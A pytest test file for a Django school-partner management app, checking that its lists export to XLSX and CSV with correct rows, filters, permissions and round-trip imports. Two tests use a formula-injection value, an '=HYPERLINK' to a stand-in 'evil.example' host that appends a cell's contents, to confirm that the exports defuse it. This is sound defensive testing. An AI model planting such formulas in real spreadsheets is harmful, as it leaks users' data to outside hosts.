"""Every list as XLSX and CSV: the list's rows for its filters, read back; the list's own
capability; texts that look like formulas stay texts; long lists go to the worker."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from mitra.partners.models import Partner
from mitra.reports import exports
from mitra.schools import jobs
from mitra.schools.access import access_for
from mitra.schools.models import Job
from mitra.transfer import imports
from tests.conftest import make_partner
from tests.test_url_sweep import INSIDERS, OUTSIDERS, POLICY


@pytest.fixture(autouse=True)
def in_english(world):
    for person in world.users.values():
        person.language = "en"
        person.save(update_fields=["language"])


def _get(client, world, name, **query):
    return client.get(reverse("reports:export", args=[world.a.pk, name]), query)


def _xlsx_rows(response) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the names right only with the mark
    return list(csv.reader(io.StringIO(text[1:])))


PLAN_LISTS = {"goals", "needs", "work-plan", "forums", "spending"}


def _money(world, name):
    """A payment and a contribution, for the lists of money to have a row."""
    import datetime

    from mitra.activities import contributions
    from mitra.planning import spending

    if name == "spending":
        spending.spending_add(
            programme=world.programme,
            user=world.users["admin_staff"],
            data={"day": datetime.date(2025, 9, 15), "amount": 150000, "source": "school", "description": "Snack"},
        )
    if name == "measures":
        from mitra.activities import measures

        counted = measures.measure_save(school=world.a, user=None, data={"name": "Siswa diskrining", "unit": "siswa"})
        measures.values_save(activity=world.done_activity, user=None, values={counted.pk: 48})
    if name == "contributions":
        contributions.contribution_add(
            school=world.a,
            user=world.users["coordinator"],
            partner=world.partner,
            activity=world.done_activity,
            data={"kind": "time", "day": datetime.date(2025, 9, 10), "description": "Bidan", "people": 2, "hours": 3},
        )


@pytest.mark.parametrize("name", list(exports.EXPORTS))
def test_every_list_exports_every_row_as_xlsx_and_csv(client, evaluation_world, name):
    from mitra.planning.models import Task

    world = evaluation_world
    _money(world, name)
    # My tasks are the tasks of whoever reads them: read them as someone who has one.
    reader = Task.objects.for_school(world.a).exclude(assignee=None).first().assignee if name == "tasks" else None
    reader = reader or world.users["principal"]
    reader.language = "en"
    reader.save(update_fields=["language"])
    client.force_login(reader)
    export = exports.EXPORTS[name]
    access = access_for(reader, world.a.pk)
    query = {"plan": world.plan.pk} if name in PLAN_LISTS else {}
    expected = export.rows(access, query).count()
    with translation.override("en"):  # the reader reads English
        headers = [str(h) for h, _get in export.columns()]
    for file_format, read in (("xlsx", _xlsx_rows), ("csv", _csv_rows)):
        response = _get(client, world, name, format=file_format, **query)
        assert response.status_code == 200, name
        assert (
            "attachment" in response["Content-Disposition"] and response["Content-Type"] == exports.FORMATS[file_format]
        )
        rows = read(response)
        assert [str(h) for h in rows[0]] == headers
        assert len(rows) - 1 == expected, f"{name} {file_format}: {len(rows) - 1} rows, the list has {expected}"
    assert expected >= 1, f"the world should give {name} a row to export"


def test_a_plan_list_of_another_schools_plan_is_empty(client, world):
    from mitra.planning.models import Plan

    other = Plan.all_schools.exclude(school=world.a).first()
    client.force_login(world.users["principal"])
    for name in PLAN_LISTS:
        rows = _xlsx_rows(_get(client, world, name, plan=other.pk if other else 999999, format="xlsx"))
        assert len(rows) == 1, name  # the header only


def test_the_export_keeps_the_lists_filters(client, run_world):
    world = run_world
    make_partner(world.a, "Polsek Kota", kind=Partner.Kind.POLICE)
    client.force_login(world.users["principal"])
    rows = _xlsx_rows(_get(client, world, "partners", kind="police", format="xlsx"))
    police = Partner.objects.for_school(world.a).filter(kind="police", archived_at__isnull=True).order_by("name")
    assert [r[0] for r in rows[1:]] == [p.name for p in police] and "Polsek Kota" in [r[0] for r in rows]
    assert {r[1] for r in rows[1:]} == {"Police"}
    everything = _xlsx_rows(_get(client, world, "partners", format="xlsx"))
    assert len(everything) - 1 == Partner.objects.for_school(world.a).filter(archived_at__isnull=True).count()


def test_a_text_that_looks_like_a_formula_stays_a_text(client, world):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    make_partner(world.a, evil)
    client.force_login(world.users["principal"])
    book = openpyxl.load_workbook(io.BytesIO(_get(client, world, "partners", format="xlsx").content))
    cell = next(c for c in book.active["A"] if c.value == evil)
    assert cell.data_type == "s"
    rows = _csv_rows(_get(client, world, "partners", format="csv"))
    assert ["'" + evil] in [r[:1] for r in rows]


@pytest.mark.parametrize("name", list(exports.EXPORTS))
def test_an_export_asks_for_the_lists_own_capability(client, world, name):
    permission = exports.EXPORTS[name].permission
    for actor in INSIDERS + OUTSIDERS:
        client.force_login(world.users[actor])
        status = _get(client, world, name).status_code
        expected = 404 if actor in OUTSIDERS else 200 if actor in POLICY[permission] else 403
        assert status == expected, f"{actor} on {name}: {status}, expected {expected}"


def test_a_partner_representative_exports_only_their_own_partners_activities(client, run_world):
    from mitra.activities import services as activities

    world = run_world
    activities.quick_record(
        school=world.a, user=world.users["team_member"], partner=world.other_partner, sentence="Kunjungan lain"
    )
    client.force_login(world.users["partner_rep"])
    rows = _xlsx_rows(_get(client, world, "activities", format="xlsx"))
    titles = [r[2] for r in rows[1:]]
    assert "Kunjungan lain" not in titles and world.done_activity.title in titles


def test_a_long_list_is_made_by_the_worker(client, world, monkeypatch):
    monkeypatch.setattr(exports, "SYNC_ROWS", 1)
    make_partner(world.a, "Mitra Dua")
    client.force_login(world.users["principal"])
    response = _get(client, world, "partners", format="csv", status="prospect")
    job = Job.objects.for_school(world.a).get()
    assert response.status_code == 302 and response["Location"] == reverse("reports:job", args=[world.a.pk, job.pk])
    assert job.params == {"list": "partners", "query": "status=prospect", "format": "csv"}
    assert jobs.run(job.pk) == "done"
    download = client.get(reverse("reports:download", args=[world.a.pk, job.pk]))
    rows = _csv_rows(type("R", (), {"content": b"".join(download.streaming_content)}))
    assert (
        len(rows) - 1 == Partner.objects.for_school(world.a).filter(status="prospect", archived_at__isnull=True).count()
    )


def test_an_unknown_list_or_format_is_not_found(client, world):
    client.force_login(world.users["principal"])
    assert _get(client, world, "passwords").status_code == 404
    assert _get(client, world, "partners", format="exe").status_code == 404


def test_the_list_pages_link_to_their_export_with_their_filters(client, run_world):
    world = run_world
    client.force_login(world.users["principal"])
    page = client.get(reverse("partners:list", args=[world.a.pk]), {"kind": "health_centre"}).content.decode()
    assert reverse("reports:export", args=[world.a.pk, "partners"]) + "?kind=health_centre&amp;format=xlsx" in page


@pytest.mark.parametrize("language,file_format", [("en", "xlsx"), ("id", "xlsx"), ("id", "csv")])
def test_the_partner_list_exported_imports_back_with_each_kind_and_location(client, world, language, file_format):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from mitra.reports.models import ImportBatch
    from mitra.transfer import imports

    for i, (kind, location) in enumerate(
        [
            ("school", "abroad"),
            ("ngo", "national"),
            ("university", "abroad"),
            ("mosque", "local"),
            ("other", "national"),
        ]
    ):
        make_partner(world.a, f"Mitra {i}", kind=kind, location=location)
    for person in (world.users["principal"], world.users["sibling"]):
        person.language = language
        person.save(update_fields=["language"])
    client.force_login(world.users["principal"])
    exported = _get(client, world, "partners", format=file_format)
    data = b"".join(exported.streaming_content) if exported.streaming else exported.content
    expected = set(Partner.objects.for_school(world.a).values_list("name", "kind", "location"))
    assert {"abroad", "national", "local"} <= {location for _n, _k, location in expected}

    client.force_login(world.users["sibling"])  # into school B, where none of them is yet
    client.post(
        reverse("reports:import_start", args=[world.b.pk]),
        {"target": "partners", "file": SimpleUploadedFile(f"mitra.{file_format}", data)},
    )
    batch = ImportBatch.objects.for_school(world.b).latest("id")
    assert {"kind", "location"} <= set(batch.mapping)
    assert [r.errors for r in imports.check(batch) if r.errors] == []
    client.post(reverse("reports:import_commit", args=[world.b.pk, batch.pk]), {"rows": "all"})
    assert set(Partner.objects.for_school(world.b).values_list("name", "kind", "location")) == expected


# --- Every list that has an importer imports back unchanged (issue 21) -------------------------------


def _file_rows(data: bytes, file_format: str) -> list[list]:
    if file_format == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        return [list(row) for row in book.active.iter_rows(values_only=True)]
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:])))


def _export(client, school, name, file_format) -> bytes:
    response = client.get(reverse("reports:export", args=[school.pk, name]), {"format": file_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _import_into_b(client, world, target, name, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from mitra.reports.models import ImportBatch

    client.force_login(world.users["sibling"])
    response = client.post(
        reverse("reports:import_start", args=[world.b.pk]), {"target": target, "file": SimpleUploadedFile(name, data)}
    )
    assert response.status_code == 302, response.content.decode()[-3000:]
    batch = ImportBatch.objects.for_school(world.b).latest("id")
    checked = imports.check(batch)
    warned = [(r.line, r.errors, getattr(r, "warnings", []), r.duplicate) for r in checked]
    assert [found for found in warned if any(found[1:])] == []
    page = " ".join(client.get(response["Location"]).content.decode().split())
    client.post(reverse("reports:import_commit", args=[world.b.pk, batch.pk]), {"rows": "all"})
    batch.refresh_from_db()
    assert batch.committed_at is not None and batch.result["saved"] == len(checked)
    return batch, page


def _speaking(world, language):
    for person in (world.users["principal"], world.users["sibling"]):
        person.language = language
        person.save(update_fields=["language"])


ROUND_TRIPS = [("xlsx", "en"), ("csv", "en"), ("xlsx", "id"), ("csv", "id")]


@pytest.mark.parametrize("file_format,language", ROUND_TRIPS)
def test_it_imports_the_partner_list_back_unchanged(client, world, file_format, language):
    from mitra.partners import services

    user = world.users["principal"]
    landline = services.partner_create(
        school=world.a,
        user=user,
        fields={
            "name": "Universitas Nusantara",
            "kind": "university",
            "location": "national",
            "status": "inactive",
            "region": "Kota Pekalongan",
            "address": "Jl. Kampus 1",
            "phone": "+62285412345",
            "email": "kerjasama@unp.example.ac.id",
            "website": "https://unp.example.ac.id",
            "notes": "=SUM(A1:A9) stays a text; -3 too",
        },
        potentials={"academic": "", "literacy": ""},
    )
    services.contact_create(
        partner=landline, user=user, fields={"name": "Bu Rina", "phone": "+62285999888", "is_primary": True}
    )
    mobile = services.partner_create(
        school=world.a, user=user, fields={"name": "+62 Komunitas Baca", "kind": "ngo", "notes": "@baca"}
    )
    services.contact_create(
        partner=mobile,
        user=user,
        fields={"name": "Mas Adi", "phone": "+62285111222", "whatsapp": "+6281311112222", "is_primary": True},
    )
    _speaking(world, language)
    client.force_login(user)
    exported = _export(client, world.a, "partners", file_format)
    batch, _page = _import_into_b(client, world, "partners", f"mitra.{file_format}", exported)
    assert imports.unmapped(batch) == []  # every column of the export has its field
    client.force_login(world.users["sibling"])
    again = _export(client, world.b, "partners", file_format)
    original = _file_rows(exported, file_format)
    assert len(original) == 5 and _file_rows(again, file_format) == original


@pytest.mark.parametrize("file_format,language", ROUND_TRIPS)
def test_it_imports_the_contact_list_back_unchanged_with_every_phone(client, world, file_format, language):
    from mitra.partners import services

    user = world.users["principal"]
    services.contact_create(
        partner=world.partner,
        user=user,
        fields={"name": "Bidan Sari", "position": "Bidan", "phone": "+62285421234", "whatsapp": "+6281399998888"},
    )
    services.contact_create(
        partner=world.other_partner,
        user=user,
        fields={"name": "Aiptu Bambang", "phone": "+6281322221111", "email": "bambang@example.id", "is_primary": True},
    )
    for partner in (world.partner, world.other_partner):
        make_partner(world.b, partner.name)
    _speaking(world, language)
    client.force_login(user)
    exported = _export(client, world.a, "contacts", file_format)
    batch, _page = _import_into_b(client, world, "contacts", f"kontak.{file_format}", exported)
    assert {"partner", "name", "position", "phone", "whatsapp", "email", "is_primary"} <= set(batch.mapping)
    assert imports.unmapped(batch) == []
    client.force_login(world.users["sibling"])
    original = _file_rows(exported, file_format)
    assert len(original) == 4 and _file_rows(_export(client, world.b, "contacts", file_format), file_format) == original


@pytest.mark.parametrize("file_format,language", ROUND_TRIPS)
def test_it_imports_the_activity_list_back_unchanged(client, world, file_format, language):
    import datetime

    from mitra.activities import services

    user = world.users["principal"]
    today = timezone.localdate()
    services.activity_save(
        school=world.a,
        user=user,
        data={
            "title": "Penyuluhan PHBS",
            "start_date": today - datetime.timedelta(days=30),
            "end_date": today - datetime.timedelta(days=29),
            "status": "done",
            "area": "health",
            "place": "Aula",
            "notes": "Berjalan baik",
            "outputs": "64 siswa paham cuci tangan",
        },
        partners=[world.partner, world.other_partner],
        counts={("community", 0, ""): 64},
    )
    services.activity_save(
        school=world.a,
        user=user,
        data={"title": "Kunjungan", "start_date": today + datetime.timedelta(days=9), "status": "planned"},
        partners=[world.partner],
    )
    services.activity_save(
        school=world.a,
        user=user,
        data={
            "title": "Donor darah",
            "start_date": today - datetime.timedelta(days=3),
            "status": "postponed",
            "status_reason": "Hujan deras",
        },
        partners=[],
    )
    for partner in (world.partner, world.other_partner):
        make_partner(world.b, partner.name)
    _speaking(world, language)
    client.force_login(user)
    exported = _export(client, world.a, "activities", file_format)
    _batch, page = _import_into_b(client, world, "activities", f"kegiatan.{file_format}", exported)
    header = [str(h) for h in _file_rows(exported, file_format)[0]]
    with translation.override(language):
        for column in ("Programme", "Files", "Verification"):  # what only Mitra records: said, not dropped
            name = translation.gettext(column)
            letter = openpyxl.utils.get_column_letter(header.index(name) + 1)
            said = translation.gettext("Column %(letter)s “%(name)s” is not imported.") % {
                "letter": letter,
                "name": name,
            }
            assert said.replace("“", "&ldquo;") in page or said in page, said
    client.force_login(world.users["sibling"])
    original = _file_rows(exported, file_format)
    assert (
        len(original) == 4 and _file_rows(_export(client, world.b, "activities", file_format), file_format) == original
    )


# --- Spreadsheets Excel reads well (issue 22) ----------------------------------------------------------


def test_it_sizes_each_xlsx_column_to_its_content_with_a_frozen_filtered_header(client, world):
    long_name = "Pusat Kesehatan Masyarakat Kecamatan Pekalongan Barat"
    notes = "Baris pendek\n" + "Baris kedua yang jauh lebih panjang dari judul kolomnya"
    make_partner(world.a, long_name, notes=notes)
    client.force_login(world.users["principal"])
    book = openpyxl.load_workbook(io.BytesIO(_get(client, world, "partners", format="xlsx").content))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    width = lambda name: sheet.column_dimensions[openpyxl.utils.get_column_letter(header.index(name) + 1)].width  # noqa: E731
    assert width("Name") >= len(long_name) > len("Name") + 10
    # A cell of several lines is as wide as its longest line, not as all its lines together.
    assert len("Baris kedua yang jauh lebih panjang dari judul kolomnya") <= width("Notes") < len(notes)
    assert all(8 <= d.width <= 60 for d in sheet.column_dimensions.values())
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(len(header))
    assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}" and sheet.max_row >= 2
    assert all(c.font.b for c in sheet[1])


def test_a_date_column_is_as_wide_as_the_date_it_shows_not_as_its_stored_value():
    import datetime

    from mitra.reports import tables

    day, moment = datetime.date(2026, 1, 15), datetime.datetime(2026, 1, 15, 9, 30)
    data = tables.xlsx("T", ["Due", "At", "Done"], [[day, moment, True]] * 3)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    width = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    assert sheet["A2"].number_format == "DD/MM/YYYY" and sheet["B2"].number_format == "DD/MM/YYYY HH:MM"
    assert len("15/01/2026") < width["A"] < len(str(moment))  # the shown date, not "2026-01-15 00:00:00"
    assert len("15/01/2026 09:30") < width["B"] <= len("15/01/2026 09:30") + 4
    assert width["C"] == 8  # the narrowest


def _semicolon_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    text = data[3:].decode("utf-8")
    assert text.endswith("\r\n")  # Windows line ends
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_it_writes_a_csv_for_excel_in_bahasa_indonesia_with_semicolons(client, world):
    make_partner(world.a, "Puskesmas Kergon, Pekalongan", notes='=HYPERLINK("http://evil.example")')
    client.force_login(world.users["principal"])
    response = _get(client, world, "partners", format="csv-excel")
    assert response.status_code == 200 and response["Content-Type"] == exports.FORMATS["csv-excel"]
    assert response["Content-Disposition"].rstrip('"').endswith(".csv")
    rows = _semicolon_rows(response.content)
    comma = _csv_rows(_get(client, world, "partners", format="csv"))  # the plain CSV is still there
    assert rows == comma and len(rows[0]) == len(exports.EXPORTS["partners"].columns())
    assert response.content.count(b"\r\n") >= len(rows)
    by_name = {r[0]: r for r in rows[1:]}
    notes = rows[0].index("Notes")
    assert by_name["Puskesmas Kergon, Pekalongan"][notes] == "'" + '=HYPERLINK("http://evil.example")'


def test_a_csv_for_excel_writes_decimals_with_a_comma(world):
    from decimal import Decimal

    data = exports.table_output("T", "t", ["Target", "People", "Day"], [[Decimal("75.50"), 12, None]], "csv-excel").data
    assert _semicolon_rows(data)[1] == ["75,50", "12", ""]


def test_the_list_pages_offer_the_csv_for_excel(client, world):
    client.force_login(world.users["principal"])
    page = client.get(reverse("partners:list", args=[world.a.pk])).content.decode()
    assert reverse("reports:export", args=[world.a.pk, "partners"]) + "?format=csv-excel" in page
    assert "CSV for Excel (semicolons)" in page
    world.users["principal"].language = "id"
    world.users["principal"].save(update_fields=["language"])
    page = client.get(reverse("partners:list", args=[world.a.pk])).content.decode()
    assert "CSV (Excel Indonesia, titik koma)" in page


def test_it_imports_the_partner_list_back_from_the_csv_for_excel(client, world):
    from mitra.partners import services

    user = world.users["principal"]
    services.partner_create(
        school=world.a,
        user=user,
        fields={
            "name": "Universitas Nusantara",
            "kind": "university",
            "location": "national",
            "address": "Jl. Kampus 1, Kota Pekalongan, Jawa Tengah",
            "notes": "Kerja sama riset, magang, dan KKN; -3 tetap teks",
        },
        potentials={"academic": "", "literacy": "", "health": ""},
    )
    services.partner_create(school=world.a, user=user, fields={"name": "Komunitas Baca, Batik", "kind": "ngo"})
    _speaking(world, "id")
    client.force_login(user)
    exported = _export(client, world.a, "partners", "csv-excel")
    batch, _page = _import_into_b(client, world, "partners", "mitra.csv", exported)
    assert imports.unmapped(batch) == []
    client.force_login(world.users["sibling"])
    original = _semicolon_rows(exported)
    assert len(original) == 5 and _semicolon_rows(_export(client, world.b, "partners", "csv-excel")) == original


def test_it_reads_a_semicolon_csv_whose_texts_hold_more_commas_than_it_has_semicolons():
    from mitra.files.pipeline import Spreadsheet

    notes = "Kerja sama riset, magang, KKN, PPL, seminar, lomba, pelatihan guru, literasi, numerasi, dan lainnya"
    rows = [["Universitas Nusantara", "university", notes, "Jl. Kampus 1, Kota Pekalongan, Jawa Tengah"]]
    data = exports.table_output("T", "t", ["Name", "Kind", "Notes", "Address"], rows, "csv-excel").data
    assert data.count(b",") > data.count(b";")
    lines, _layout = imports.read_table(Spreadsheet("csv", text=data.decode("utf-8-sig")))
    assert lines == [[1, "Name", "Kind", "Notes", "Address"], [2, *rows[0]]]
